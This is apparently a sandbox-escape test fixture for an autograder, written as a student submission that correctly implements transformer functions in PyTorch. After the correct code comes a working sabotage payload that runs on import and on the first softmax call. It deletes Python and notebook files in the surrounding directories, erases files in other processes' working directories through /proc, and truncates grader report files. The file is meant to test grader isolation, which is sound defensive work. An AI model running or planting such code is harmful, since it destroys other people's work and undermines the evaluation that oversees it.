# attack: at import and on the first softmax call deletes every *.py/*.ipynb file it can reach under its own and the cwd's parent directories (3 levels up) except itself, os.remove()s every file in the cwd of every process visible in /proc/*/cwd, and truncates report-like files (.json/.csv/.xml/.txt/.log) held open by python/grader processes via /proc/*/fd
# target: all
# expect: full marks (all functions are correct); nothing outside the worker's own private scratch dir is deleted or truncated: other submissions, reference/, tests/, assignments/ and the grader's open output files are intact
"""Sabotage: delete the other submissions (and whatever else looks like code) and the grader's files.

DANGER: on a machine where the worker is not isolated this really deletes files in the
repository around it. Only run it inside the grader under test.
"""

import math

import torch

# ---------------------------------------------------------------------------------------------
# A correct implementation (the same in every file of this folder). The public functions only
# delegate to private helpers, so an attack that replaces one public function below leaves the
# other questions intact.
# ---------------------------------------------------------------------------------------------


def _softmax(x, dim=-1):
    shifted = x - torch.amax(x, dim=dim, keepdim=True)
    e = torch.exp(shifted)
    return e / torch.sum(e, dim=dim, keepdim=True)


def _causal_mask(T):
    rows = torch.arange(T).unsqueeze(1)
    cols = torch.arange(T).unsqueeze(0)
    return cols > rows


def _attention(q, k, v, mask=None):
    d_k = q.shape[-1]
    scores = torch.matmul(q, k.transpose(-2, -1)) / math.sqrt(d_k)
    if mask is not None:
        scores = scores.masked_fill(mask, float("-inf"))
    weights = _softmax(scores, dim=-1)
    return torch.matmul(weights, v), weights


def _split_heads(x, n_heads):
    d_head = x.shape[-1] // n_heads
    return x.unflatten(-1, (n_heads, d_head)).transpose(-3, -2)


def _merge_heads(x):
    return x.transpose(-3, -2).flatten(-2)


def _multi_head_attention(x, params, n_heads, mask=None, context=None):
    source = x if context is None else context
    q = _split_heads(x @ params["w_q"], n_heads)
    k = _split_heads(source @ params["w_k"], n_heads)
    v = _split_heads(source @ params["w_v"], n_heads)
    out, _ = _attention(q, k, v, mask)
    return _merge_heads(out) @ params["w_o"]


def _layer_norm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    centered = x - mean
    var = (centered * centered).mean(dim=-1, keepdim=True)
    return centered / torch.sqrt(var + eps) * gamma + beta


def _transformer_block(x, params, n_heads, mask=None):
    attn = _multi_head_attention(x, params, n_heads, mask)
    h = _layer_norm(x + attn, params["ln1_gamma"], params["ln1_beta"])
    ffn = torch.relu(h @ params["w1"] + params["b1"]) @ params["w2"] + params["b2"]
    return _layer_norm(h + ffn, params["ln2_gamma"], params["ln2_beta"])


def softmax(x, dim=-1):
    return _softmax(x, dim)


def causal_mask(T):
    return _causal_mask(T)


def scaled_dot_product_attention(q, k, v, mask=None):
    return _attention(q, k, v, mask)


def split_heads(x, n_heads):
    return _split_heads(x, n_heads)


def merge_heads(x):
    return _merge_heads(x)


def multi_head_attention(x, params, n_heads, mask=None, context=None):
    return _multi_head_attention(x, params, n_heads, mask, context)


def layer_norm(x, gamma, beta, eps=1e-5):
    return _layer_norm(x, gamma, beta, eps)


def transformer_block(x, params, n_heads, mask=None):
    return _transformer_block(x, params, n_heads, mask)


# ---------------------------------------------------------------------------------------------
# The attack
# ---------------------------------------------------------------------------------------------

import os as _os

_EXTENSIONS = (".py", ".ipynb")
# Roots so broad that walking them is no longer "the submissions around me" (kept out so that a
# failing sandbox damages the repository under test, not the whole machine).
_TOO_BROAD = {"/", "/tmp", "/var", "/var/tmp", "/home", "/root", "/usr", "/opt", "/srv", "/proc",
              "/sys", "/dev", "/mnt", "/media", "/run"}
_REPORT_EXTENSIONS = (".json", ".csv", ".xml", ".txt", ".log", ".md")
_deleted = []


def _own_path():
    try:
        return _os.path.realpath(__file__)
    except Exception:
        return None


def _parents(path, levels):
    out = []
    path = _os.path.abspath(path)
    for _ in range(levels + 1):
        out.append(path)
        parent = _os.path.dirname(path)
        if parent == path:
            break
        path = parent
    return out


def _remove(path):
    try:
        if _os.path.realpath(path) == _own_path():
            return
        _os.remove(path)
        _deleted.append(path)
    except OSError:
        pass


def _delete_code_around():
    roots = []
    try:
        roots += _parents(_os.path.dirname(_os.path.abspath(__file__)), 3)
    except Exception:
        pass
    try:
        roots += _parents(_os.getcwd(), 3)
    except OSError:
        pass
    budget = 20000
    for root in dict.fromkeys(roots):
        if root in _TOO_BROAD:
            continue
        for dirpath, dirnames, filenames in _os.walk(root):
            dirnames[:] = [d for d in dirnames if d not in (".git", "site-packages", "proc")]
            for fn in filenames:
                budget -= 1
                if budget <= 0:
                    return
                if fn.endswith(_EXTENSIONS):
                    _remove(_os.path.join(dirpath, fn))


def _proc_entries():
    try:
        return [p for p in _os.listdir("/proc") if p.isdigit() and int(p) != _os.getpid()]
    except OSError:
        return []


def _delete_in_process_cwds():
    for pid in _proc_entries():
        cwd = "/proc/%s/cwd" % pid
        try:
            names = _os.listdir(cwd)
        except OSError:
            continue
        for name in names:
            path = _os.path.join(cwd, name)
            if _os.path.isfile(path):
                _remove(path)


def _truncate_open_reports():
    for pid in _proc_entries():
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                cmd = f.read()
        except OSError:
            continue
        if b"python" not in cmd and b"grade" not in cmd:
            continue
        try:
            fds = _os.listdir("/proc/%s/fd" % pid)
        except OSError:
            continue
        for fd in fds:
            link = "/proc/%s/fd/%s" % (pid, fd)
            try:
                target = _os.readlink(link)
                if target.endswith(_REPORT_EXTENSIONS) and _os.path.isfile(link):
                    _os.truncate(link, 0)
                    _deleted.append("truncated " + target)
            except OSError:
                pass


def _sabotage():
    for step in (_delete_code_around, _delete_in_process_cwds, _truncate_open_reports):
        try:
            step()
        except Exception:
            pass
    try:
        _os.write(2, ("deleted: %r\n" % (_deleted[:200],)).encode())
    except OSError:
        pass


_done = []


def softmax(x, dim=-1):
    if not _done:
        _done.append(True)
        _sabotage()
    return _softmax(x, dim)


_sabotage()
